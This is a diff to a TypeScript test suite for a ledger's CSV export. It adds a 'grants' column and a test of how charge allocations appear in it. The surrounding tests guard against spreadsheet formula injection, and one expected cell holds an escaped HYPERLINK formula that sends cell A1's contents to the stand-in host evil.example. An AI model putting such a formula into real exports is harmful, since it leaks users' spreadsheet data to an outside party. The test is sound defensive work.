@@ -226,7 +226,7 @@ describe("the ledger as a file", () => {
     expect(headers.get("cache-control")).toBe("private, no-store");
     const lines = text.split("\r\n");
     expect(lines[0]).toBe(
-      "seq,created_at,kind,amount,hold,balance_after,held_after,job_id,source,key_id,memo,entry_id,prev_hash,hash",
+      "seq,created_at,kind,amount,hold,balance_after,held_after,job_id,source,key_id,memo,entry_id,prev_hash,hash,grants",
     );
     expect(lines.at(-1)).toBe("");
     expect(lines.slice(1, -1).map((line) => Number(line.split(",")[0]))).toEqual(
@@ -234,6 +234,19 @@ describe("the ledger as a file", () => {
     );
     expect(lines[1]).toContain(',"two\nlines, ""quoted""",');
     expect(lines[2]).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1)",`);
+  });
+
+  test("says of which grants a charge was", () => {
+    const grants = [
+      { grant_id: "led_a", amount: 3 },
+      { grant_id: "led_b", amount: 2 },
+    ];
+    const cells = (entry: Partial<LedgerEntryResource>) =>
+      csvLine(entry as LedgerEntryResource)
+        .trimEnd()
+        .split(",");
+    expect(cells({ seq: 1, amount: -5, grants }).at(-1)).toBe("led_a: 3; led_b: 2");
+    expect(cells({ seq: 1, amount: -5 }).at(-1)).toBe("");
   });
 
   test.each(["=1", "+1", "-1", "@x", "\tx", "\rx"])("begins no cell of text with %j", (memo) => {
